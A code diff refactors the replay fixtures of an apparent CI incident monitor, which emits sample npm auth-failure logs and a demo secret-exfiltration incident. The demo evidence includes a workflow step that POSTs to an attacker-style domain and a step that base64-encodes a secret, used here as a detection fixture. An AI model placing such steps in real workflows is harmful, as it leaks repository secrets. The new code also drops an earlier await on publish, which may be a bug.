@@ -1,10 +1,10 @@
-import asyncio
-import hashlib
-import json
+from dataclasses import replace
 from datetime import datetime, timedelta, timezone
-from typing import Iterable, List
+from typing import Any, Dict, Iterable, List
 
-from ..incidents import insert_incident
+import orjson
+
+from ..incidents import dedupe_hash, incident_card, insert_incidents_batch, stable_run_id
 from ..config import settings
 from ..incident_fields import apply_incident_fields
 from ..summary_queue import SummaryQueue
@@ -20,10 +20,9 @@ async def run_replay_fixtures(
     summary_queue: SummaryQueue,
     enrichment_queue: EnrichmentQueue,
 ) -> int:
-    fixtures = _fixtures()
     emitted = 0
-
-    for run_ctx, logs in fixtures:
+    # sequential, so the correlator ingests every fixture's job logs in the same order each replay
+    for run_ctx, logs in _fixtures():
         emitted += await process_run_logs_for_signals(
             run_ctx,
             logs,
@@ -35,167 +34,159 @@ async def run_replay_fixtures(
             summary_queue=summary_queue,
             enrichment_queue=enrichment_queue,
         )
-        await asyncio.sleep(0.05)
 
-    emitted += await _emit_ecosystem_example(broadcaster, db_path, summary_queue, enrichment_queue)
-    emitted += await _emit_personalized_exfiltration_example(broadcaster, db_path, summary_queue, enrichment_queue)
+    examples = []
+    if not emitted:
+        # the fixtures didn't trip the correlator (e.g. still in cooldown); show the canned ecosystem card instead
+        examples.append(_ecosystem_example_incident())
+    examples.append(_personalized_exfiltration_incident())
+    emitted += await _emit_examples(examples, broadcaster, db_path, summary_queue, enrichment_queue)
     return emitted
 
-def _fixtures() -> List[tuple[RunContext, List[dict]]]:
-    logs = [
-        {
-            "job_name": "build",
-            "log_text": (
-                "npm ERR! code E401\n"
-                "npm ERR! Unable to authenticate, your authentication token seems to be invalid.\n"
-                "npm ERR! To correct this please try logging in again with:\n"
-                "npm ERR!     npm login\n"
-                "npm ERR! A complete log of this run can be found in:\n"
-                "npm ERR!     /home/runner/.npm/_logs/2025-09-08T13_42_11_123Z-debug.log\n"
-                "Error: Process completed with exit code 1.\n"
-            ),
-        },
-        {
-            "job_name": "publish",
-            "log_text": (
-                "npm ERR! code EAUTH\n"
-                "npm ERR! Invalid authentication token.\n"
-                "npm ERR! Please run `npm login` again to reauthenticate.\n"
-                "npm ERR! This is likely caused by an expired or revoked npm token.\n"
-                "npm ERR! A complete log of this run can be found in:\n"
-                "npm ERR!     /home/runner/.npm/_logs/2025-09-08T14_03_51_991Z-debug.log\n"
-            ),
-        },
-        {
-            "job_name": "install",
-            "log_text": (
-                "> npm install\n\n"
-                "npm ERR! code E401\n"
-                "npm ERR! Unable to authenticate, need: Basic realm=\"GitHub Package Registry\"\n"
-                "npm ERR! authentication required for https://registry.npmjs.org/\n"
-                "npm ERR! A complete log of this run can be found in:\n"
-                "npm ERR!     /home/runner/.npm/_logs/2025-09-08T15_11_09_552Z-debug.log\n"
-                "Error: npm install failed\n"
-            ),
-        },
-        {
-            "job_name": "whoami",
-            "log_text": (
-                "npm ERR! code E401\n"
-                "npm ERR! Unable to authenticate, your authentication token seems to be invalid.\n"
-                "npm ERR! npm whoami\n"
-                "npm ERR!     at /opt/hostedtoolcache/node/20.x/x64/lib/node_modules/npm/lib/commands/whoami.js\n"
-                "Error: Process completed with exit code 1.\n"
-            ),
-        },
-    ]
-    now = datetime.now(timezone.utc)
-    return [
-        (
-            RunContext(
-                repo_full_name="org-a/repo-one",
-                owner="org-a",
-                run_id=1001,
-                html_url="https://example.com/runs/1001",
-                workflow_name="CI",
-                conclusion="failure",
-                updated_at=(now + timedelta(seconds=1)).isoformat(),
-            ),
-            logs,
+async def _emit_examples(
+    incidents: List[Dict[str, Any]],
+    broadcaster,
+    db_path: str,
+    summary_queue: SummaryQueue,
+    enrichment_queue: EnrichmentQueue,
+) -> int:
+    # one transaction for all examples; only the ones that were new get queued and published
+    inserted = await insert_incidents_batch(db_path, incidents)
+    for incident in inserted:
+        await summary_queue.enqueue(incident["incident_id"])
+        await maybe_enqueue_enrichment(incident, enrichment_queue, db_path)
+
+        card = incident_card(incident)
+        broadcaster.publish(card)
+    return len(inserted)
+
+_FIXTURE_LOGS: List[dict] = [
+    {
+        "job_name": "build",
+        "log_text": (
+            "npm ERR! code E401\n"
+            "npm ERR! Unable to authenticate, your authentication token seems to be invalid.\n"
+            "npm ERR! To correct this please try logging in again with:\n"
+            "npm ERR!     npm login\n"
+            "npm ERR! A complete log of this run can be found in:\n"
+            "npm ERR!     /home/runner/.npm/_logs/2025-09-08T13_42_11_123Z-debug.log\n"
+            "Error: Process completed with exit code 1.\n"
         ),
-        (
-            RunContext(
-                repo_full_name="org-b/repo-two",
-                owner="org-b",
-                run_id=1002,
-                html_url="https://example.com/runs/1002",
-                workflow_name="CI",
-                conclusion="failure",
-                updated_at=(now + timedelta(seconds=2)).isoformat(),
-            ),
-            logs,
+    },
+    {
+        "job_name": "publish",
+        "log_text": (
+            "npm ERR! code EAUTH\n"
+            "npm ERR! Invalid authentication token.\n"
+            "npm ERR! Please run `npm login` again to reauthenticate.\n"
+            "npm ERR! This is likely caused by an expired or revoked npm token.\n"
+            "npm ERR! A complete log of this run can be found in:\n"
+            "npm ERR!     /home/runner/.npm/_logs/2025-09-08T14_03_51_991Z-debug.log\n"
         ),
-        (
-            RunContext(
-                repo_full_name="org-c/repo-three",
-                owner="org-c",
-                run_id=1003,
-                html_url="https://example.com/runs/1003",
-                workflow_name="CI",
-                conclusion="failure",
-                updated_at=(now + timedelta(seconds=3)).isoformat(),
-            ),
-            logs,
+    },
+    {
+        "job_name": "install",
+        "log_text": (
+            "> npm install\n\n"
+            "npm ERR! code E401\n"
+            "npm ERR! Unable to authenticate, need: Basic realm=\"GitHub Package Registry\"\n"
+            "npm ERR! authentication required for https://registry.npmjs.org/\n"
+            "npm ERR! A complete log of this run can be found in:\n"
+            "npm ERR!     /home/runner/.npm/_logs/2025-09-08T15_11_09_552Z-debug.log\n"
+            "Error: npm install failed\n"
         ),
-        (
-            RunContext(
-                repo_full_name="org-a/repo-four",
-                owner="org-a",
-                run_id=1004,
-                html_url="https://example.com/runs/1004",
-                workflow_name="CI",
-                conclusion="failure",
-                updated_at=(now + timedelta(seconds=4)).isoformat(),
-            ),
-            logs,
+    },
+    {
+        "job_name": "whoami",
+        "log_text": (
+            "npm ERR! code E401\n"
+            "npm ERR! Unable to authenticate, your authentication token seems to be invalid.\n"
+            "npm ERR! npm whoami\n"
+            "npm ERR!     at /opt/hostedtoolcache/node/20.x/x64/lib/node_modules/npm/lib/commands/whoami.js\n"
+            "Error: Process completed with exit code 1.\n"
         ),
+    },
+]
+
+# (repo, owner, run_id) for each replayed failing run; all share the same logs
+_FIXTURE_RUNS = (
+    ("org-a/repo-one", "org-a", 1001),
+    ("org-b/repo-two", "org-b", 1002),
+    ("org-c/repo-three", "org-c", 1003),
+    ("org-a/repo-four", "org-a", 1004),
+    ("org-b/repo-five", "org-b", 1005),
+)
+
+_FIXTURE_BASE = RunContext(
+    repo_full_name="",
+    owner="",
+    run_id=0,
+    html_url="",
+    workflow_name="CI",
+    conclusion="failure",
+    updated_at=None,
+)
+
+def _fixtures() -> List[tuple[RunContext, List[dict]]]:
+    now = datetime.now(timezone.utc)
+    return [
         (
-            RunContext(
-                repo_full_name="org-b/repo-five",
-                owner="org-b",
-                run_id=1005,
-                html_url="https://example.com/runs/1005",
-                workflow_name="CI",
-                conclusion="failure",
-                updated_at=(now + timedelta(seconds=5)).isoformat(),
+            replace(
+                _FIXTURE_BASE,
+                repo_full_name=repo,
+                owner=owner,
+                run_id=run_id,
+                html_url=f"https://example.com/runs/{run_id}",
+                updated_at=(now + timedelta(seconds=i)).isoformat(),
             ),
-            logs,
-        ),
+            _FIXTURE_LOGS,
+        )
+        for i, (repo, owner, run_id) in enumerate(_FIXTURE_RUNS, 1)
     ]
 
-async def _emit_personalized_exfiltration_example(
-    broadcaster,
-    db_path: str,
-    summary_queue: SummaryQueue,
-    enrichment_queue: EnrichmentQueue,
-) -> int:
+_DEMO_DEDUPE_KEY = "personalized_exfil:demo/repo:deadbeef:.github/workflows/ghostaction.yml"
+_DEMO_EVIDENCE = {
+    "repo_full_name": "demo/repo",
+    "sha": "deadbeef",
+    "actor": "demo-user",
+    "workflow_path": ".github/workflows/ghostaction.yml",
+    "overlap_secrets": ["a1b2c3d4e5"],
+    "overlap_count": 1,
+    "exfil_domain": "bold-dhawan.45-139-104-115.plesk.page",
+    "confidence": "high",
+    "evidence_lines": [
+        "name: Github Actions Security",
+        "run: curl -X POST https://bold-dhawan.45-139-104-115.plesk.page/collect",
+        "run: echo ${{ secrets.REDACTED }} | base64",
+    ],
+    "source": "replay",
+}
+_DEMO_TAGS = [
+    "security",
+    "workflow_injection",
+    "secret_enumeration",
+    "confidence:high",
+    "overlap:1",
+]
+# the example never changes, so encode it (and derive its ids) once at import
+_DEMO_EVIDENCE_JSON = orjson.dumps(_DEMO_EVIDENCE).decode()
+_DEMO_TAGS_JSON = orjson.dumps(_DEMO_TAGS).decode()
+_DEMO_INCIDENT_ID = dedupe_hash(_DEMO_DEDUPE_KEY)
+_DEMO_RUN_ID = stable_run_id(_DEMO_DEDUPE_KEY)
+
+def _personalized_exfiltration_incident() -> Dict[str, Any]:
     now_dt = datetime.now(timezone.utc)
     now = now_dt.isoformat()
-    dedupe_key = "personalized_exfil:demo/repo:deadbeef:.github/workflows/ghostaction.yml"
+    dedupe_key, incident_id, run_id = _DEMO_DEDUPE_KEY, _DEMO_INCIDENT_ID, _DEMO_RUN_ID
     if settings.REPLAY_ALWAYS:
         dedupe_key = f"{dedupe_key}:{now_dt.strftime('%Y%m%d%H%M')}"
-    incident_id = hashlib.sha1(dedupe_key.encode("utf-8")).hexdigest()
+        incident_id = dedupe_hash(dedupe_key)
+        run_id = stable_run_id(dedupe_key)
 
-    evidence = {
-        "repo_full_name": "demo/repo",
-        "sha": "deadbeef",
-        "actor": "demo-user",
-        "workflow_path": ".github/workflows/ghostaction.yml",
-        "overlap_secrets": ["a1b2c3d4e5"],
-        "overlap_count": 1,
-        "exfil_domain": "bold-dhawan.45-139-104-115.plesk.page",
-        "confidence": "high",
-        "evidence_lines": [
-            "name: Github Actions Security",
-            "run: curl -X POST https://bold-dhawan.45-139-104-115.plesk.page/collect",
-            "run: echo ${{ secrets.REDACTED }} | base64",
-        ],
-        "source": "replay",
-    }
-
-    tags = [
-        "security",
-        "workflow_injection",
-        "secret_enumeration",
-        "confidence:high",
-        "overlap:1",
-    ]
-
-    run_id = -int(int(hashlib.sha1(dedupe_key.encode("utf-8")).hexdigest()[:8], 16))
     incident = {
         "incident_id": incident_id,
         "kind": "personalized_secret_exfiltration",
-        "run_id": -int(int("deadbeef", 16) % (2**31)),
+        "run_id": run_id,
         "dedupe_key": dedupe_key,
         "repo_full_name": "demo/repo",
         "workflow_name": ".github/workflows/ghostaction.yml",
@@ -206,50 +197,24 @@ async def _emit_personalized_exfiltration_example(
         "created_at": now,
         "updated_at": now,
         "title": "Personalized secret exfiltration risk in demo/repo",
-        "tags_json": json.dumps(tags),
-        "evidence_json": json.dumps(evidence),
-        "_tags": tags,
-        "_evidence": evidence,
+        "tags_json": _DEMO_TAGS_JSON,
+        "evidence_json": _DEMO_EVIDENCE_JSON,
+        "_tags": _DEMO_TAGS,
+        "_evidence": _DEMO_EVIDENCE,
     }
 
     apply_incident_fields(incident)
-    inserted = await insert_incident(db_path, incident)
-    if not inserted:
-        return 0
-    await summary_queue.enqueue(incident_id)
-    await maybe_enqueue_enrichment(incident, enrichment_queue, db_path)
-
-    card = {
-        "incident_id": incident["incident_id"],
-        "kind": incident["kind"],
-        "repo_full_name": incident["repo_full_name"],
-        "title": incident["title"],
-        "workflow_name": incident["workflow_name"],
-        "run_id": incident["run_id"],
-        "run_number": incident["run_number"],
-        "conclusion": incident["conclusion"],
-        "status": incident["status"],
-        "html_url": incident["html_url"],
-        "created_at": incident["created_at"],
-        "tags": incident["_tags"],
-        "evidence": incident["_evidence"],
-    }
-    await broadcaster.publish(card)
-    return 1
+    return incident
 
-async def _emit_ecosystem_example(
-    broadcaster,
-    db_path: str,
-    summary_queue: SummaryQueue,
-    enrichment_queue: EnrichmentQueue,
-) -> int:
+def _ecosystem_example_incident() -> Dict[str, Any]:
     now_dt = datetime.now(timezone.utc)
     now = now_dt.isoformat()
     signature = "npm_auth_token_expired"
     dedupe_key = "ecosystem:replay:npm_auth_token_expired"
     if settings.REPLAY_ALWAYS:
         dedupe_key = f"{dedupe_key}:{now_dt.strftime('%Y%m%d%H%M')}"
-    incident_id = hashlib.sha1(dedupe_key.encode("utf-8")).hexdigest()
+    incident_id = dedupe_hash(dedupe_key)
+    run_id = stable_run_id(dedupe_key)
 
     sample_repos = ["org-a/repo-one", "org-b/repo-two", "org-c/repo-three"]
     payload = {
@@ -299,33 +264,11 @@ async def _emit_ecosystem_example(
         "created_at": now,
         "updated_at": now,
         "title": f"Ecosystem incident: npm auth failures across {sample_repos[0]} +{len(sample_repos) - 1}",
-        "tags_json": json.dumps(tags),
-        "evidence_json": json.dumps(payload),
+        "tags_json": orjson.dumps(tags).decode(),
+        "evidence_json": orjson.dumps(payload).decode(),
         "_tags": tags,
         "_evidence": payload,
     }
 
     apply_incident_fields(incident)
-    inserted = await insert_incident(db_path, incident)
-    if not inserted:
-        return 0
-    await summary_queue.enqueue(incident_id)
-    await maybe_enqueue_enrichment(incident, enrichment_queue, db_path)
-
-    card = {
-        "incident_id": incident["incident_id"],
-        "kind": incident["kind"],
-        "repo_full_name": incident["repo_full_name"],
-        "title": incident["title"],
-        "workflow_name": incident["workflow_name"],
-        "run_id": incident["run_id"],
-        "run_number": incident["run_number"],
-        "conclusion": incident["conclusion"],
-        "status": incident["status"],
-        "html_url": incident["html_url"],
-        "created_at": incident["created_at"],
-        "tags": incident["_tags"],
-        "evidence": incident["_evidence"],
-    }
-    await broadcaster.publish(card)
-    return 1
+    return incident